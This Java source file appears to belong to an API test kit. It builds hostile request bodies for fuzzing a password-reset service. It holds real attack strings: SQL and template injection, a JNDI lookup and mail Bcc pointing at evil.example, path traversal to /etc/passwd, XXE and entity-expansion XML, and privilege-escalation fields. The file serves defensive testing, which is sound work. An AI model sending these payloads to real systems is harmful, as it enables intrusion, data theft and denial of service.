package resetkit.faults;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.swagger.v3.oas.models.media.Schema;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;

/**
 * Request bodies a hostile or broken client sends: derived from an operation's schema (a valid
 * body, then each field wrongly typed, null, oversized or injection-shaped; fields missing or
 * added) and structural attacks that need no schema (malformed, deeply nested, non-UTF-8, XXE,
 * entity expansion, larger than the server accepts). Each is written for a given content type.
 */
final class HostileBodies {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    /** Strings shaped like attacks on the layers behind a field: mail headers, SQL, templates, markup, paths. */
    static final List<String> INJECTIONS = List.of(
            "victim@example.com\r\nBcc: attacker@evil.example",
            "Subject\r\n\r\n<html>injected body</html>",
            "' OR '1'='1' -- ",
            "\"; DROP TABLE tenant; --",
            "1; SELECT SLEEP(10)",
            "{{7*7}}${7*7}<%= 7*7 %>#{7*7}[[${7*7}]]",
            "${jndi:ldap://evil.example/a}",
            "<script>alert(1)</script>",
            "../../../../etc/passwd",
            "\u0000\u0001\u0007\u001b[31m",
            "\uD83D\uDE00\u202Eevil\u200B",
            "https://evil.example/phish?token=");

    record Body(String label, byte[] bytes) {
    }

    private HostileBodies() {
    }

    /** A value that satisfies {@code schema} as far as a test can guess: the starting point of the mutations. */
    static JsonNode valid(Schema<?> schema, String name) {
        if (schema == null) {
            return NODES.textNode("x");
        }
        if (schema.getExample() != null && !(schema.getExample() instanceof String s && s.isEmpty())) {
            JsonNode example = JSON.valueToTree(schema.getExample());
            if (example != null && !example.isNull()) {
                return example;
            }
        }
        if (schema.getEnum() != null && !schema.getEnum().isEmpty()) {
            return JSON.valueToTree(schema.getEnum().get(0));
        }
        String type = schema.getType() != null ? schema.getType()
                : schema.getProperties() != null ? "object" : schema.getItems() != null ? "array" : "string";
        return switch (type) {
            case "object" -> {
                ObjectNode object = NODES.objectNode();
                if (schema.getProperties() != null) {
                    schema.getProperties().forEach((field, fieldSchema) -> object.set(field, valid(fieldSchema, field)));
                }
                yield object;
            }
            case "array" -> NODES.arrayNode().add(valid(schema.getItems(), name));
            case "integer", "number" -> NODES.numberNode(schema.getMinimum() != null ? schema.getMinimum().intValue() : 1);
            case "boolean" -> NODES.booleanNode(true);
            default -> NODES.textNode(sampleText(schema, name));
        };
    }

    private static String sampleText(Schema<?> schema, String name) {
        String lower = name == null ? "" : name.toLowerCase();
        if ("email".equals(schema.getFormat()) || lower.contains("email") || lower.equals("identity")) {
            return "user@example.com";
        }
        if (lower.contains("url")) {
            return "https://example.com/recover";
        }
        if (lower.contains("password")) {
            return "a new password 1!";
        }
        if (lower.equals("otp") || lower.equals("code")) {
            return "123456";
        }
        return "user";
    }

    /** The schema-derived bodies of an object schema: the valid one and one mutation of each field per kind. */
    static List<JsonNode> mutations(Schema<?> schema, java.util.Random random) {
        JsonNode base = valid(schema, null);
        List<JsonNode> out = new ArrayList<>();
        out.add(base);
        if (!(base instanceof ObjectNode object)) {
            return out;
        }
        out.add(NODES.objectNode());
        ObjectNode extra = object.deepCopy();
        extra.put("is_admin", true).put("__proto__", "x").set("tenant_id", NODES.textNode("other"));
        out.add(extra);
        for (Iterator<String> fields = object.fieldNames(); fields.hasNext(); ) {
            String field = fields.next();
            JsonNode value = object.get(field);
            out.add(with(object, field, NODES.nullNode()));
            out.add(with(object, field, value.isTextual() ? NODES.numberNode(random.nextInt()) : NODES.textNode("not-a-" + value.getNodeType())));
            out.add(with(object, field, NODES.arrayNode().add(value).add(value)));
            out.add(with(object, field, NODES.objectNode().set("$gt", NODES.textNode(""))));
            out.add(with(object, field, NODES.textNode("x".repeat(2000 + random.nextInt(20000)))));
            out.add(with(object, field, NODES.textNode(INJECTIONS.get(random.nextInt(INJECTIONS.size())))));
            ObjectNode missing = object.deepCopy();
            missing.remove(field);
            out.add(missing);
        }
        return out;
    }

    private static ObjectNode with(ObjectNode object, String field, JsonNode value) {
        ObjectNode copy = object.deepCopy();
        copy.set(field, value);
        return copy;
    }

    /** Bodies that are broken or hostile whatever the schema. */
    static List<Body> structural() {
        List<Body> out = new ArrayList<>();
        out.add(new Body("empty", new byte[0]));
        out.add(new Body("truncated JSON", "{\"email\": \"user@exa".getBytes(StandardCharsets.UTF_8)));
        out.add(new Body("trailing garbage", "{\"email\":\"user@example.com\"}}}garbage".getBytes(StandardCharsets.UTF_8)));
        out.add(new Body("JSON null", "null".getBytes(StandardCharsets.UTF_8)));
        out.add(new Body("JSON array", "[{\"email\":\"user@example.com\"}]".getBytes(StandardCharsets.UTF_8)));
        out.add(new Body("JSON string", "\"user@example.com\"".getBytes(StandardCharsets.UTF_8)));
        out.add(new Body("JSON number", "1e999999".getBytes(StandardCharsets.UTF_8)));
        out.add(new Body("JSON integer", "42".getBytes(StandardCharsets.UTF_8)));
        out.add(new Body("JSON boolean", "true".getBytes(StandardCharsets.UTF_8)));
        out.add(new Body("duplicate keys", "{\"email\":\"a@example.com\",\"email\":\"b@example.com\"}".getBytes(StandardCharsets.UTF_8)));
        out.add(new Body("deep arrays", ("[".repeat(20000) + "]".repeat(20000)).getBytes(StandardCharsets.UTF_8)));
        out.add(new Body("deep objects", ("{\"a\":".repeat(5000) + "1" + "}".repeat(5000)).getBytes(StandardCharsets.UTF_8)));
        out.add(new Body("non-UTF-8", new byte[]{'{', '"', 'e', 'm', 'a', 'i', 'l', '"', ':', '"', (byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xFE, '"', '}'}));
        out.add(new Body("UTF-16 BOM", "\uFEFF{\"email\":\"user@example.com\"}".getBytes(StandardCharsets.UTF_16)));
        out.add(new Body("larger than accepted", ("{\"email\":\"" + "a".repeat(200_000) + "@example.com\"}").getBytes(StandardCharsets.UTF_8)));
        out.add(new Body("XXE", ("<?xml version=\"1.0\"?><!DOCTYPE item [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"
                + "<item><id>&xxe;</id><email>&xxe;</email><username>&xxe;</username></item>").getBytes(StandardCharsets.UTF_8)));
        out.add(new Body("entity expansion", ("<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">"
                + "<!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">"
                + "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">"
                + "<!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">]><item><id>&lol4;</id></item>")
                .getBytes(StandardCharsets.UTF_8)));
        out.add(new Body("deep XML", ("<a>".repeat(5000) + "</a>".repeat(5000)).getBytes(StandardCharsets.UTF_8)));
        out.add(new Body("form with repeated and broken escapes", "email=%ZZ&email=%&username=%E0%A4%A&id=%00&=x&&"
                .getBytes(StandardCharsets.US_ASCII)));
        return out;
    }

    /** {@code value} written as a body of this content type (null: JSON text, as a client that sets no type sends it). */
    static byte[] encode(JsonNode value, String contentType) throws Exception {
        String type = contentType == null ? "" : contentType;
        if (type.contains("xml")) {
            return ("<?xml version=\"1.0\" encoding=\"utf-8\"?>" + xml("item", value)).getBytes(StandardCharsets.UTF_8);
        }
        if (type.contains("form")) {
            if (!(value instanceof ObjectNode object)) {
                return URLEncoder.encode(value.toString(), StandardCharsets.UTF_8).getBytes(StandardCharsets.US_ASCII);
            }
            StringBuilder form = new StringBuilder();
            for (Iterator<Map.Entry<String, JsonNode>> it = object.fields(); it.hasNext(); ) {
                Map.Entry<String, JsonNode> field = it.next();
                if (!form.isEmpty()) {
                    form.append('&');
                }
                String text = field.getValue().isValueNode() ? field.getValue().asText() : field.getValue().toString();
                form.append(URLEncoder.encode(field.getKey(), StandardCharsets.UTF_8)).append('=')
                        .append(URLEncoder.encode(text, StandardCharsets.UTF_8));
            }
            return form.toString().getBytes(StandardCharsets.US_ASCII);
        }
        return JSON.writeValueAsBytes(value);
    }

    private static String xml(String name, JsonNode value) {
        StringBuilder out = new StringBuilder("<").append(name).append('>');
        if (value instanceof ObjectNode object) {
            object.fields().forEachRemaining(f -> out.append(xml(f.getKey(), f.getValue())));
        } else if (value instanceof ArrayNode array) {
            array.forEach(v -> out.append(xml("value", v)));
        } else if (!value.isNull()) {
            out.append(value.asText().replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;"));
        }
        return out.append("</").append(name).append('>').toString();
    }
}
